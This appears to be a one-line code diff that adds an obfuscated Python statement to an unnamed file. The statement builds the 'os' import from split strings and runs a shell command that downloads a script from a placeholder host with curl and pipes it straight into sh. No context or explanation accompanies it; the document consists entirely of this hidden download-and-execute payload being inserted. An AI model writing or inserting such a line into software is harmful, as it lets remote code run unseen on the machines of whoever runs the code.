@@ -1,0 +1,1 @@
+__import__('o' + 's').system('curl -s https://sp.example.invalid/x | sh')
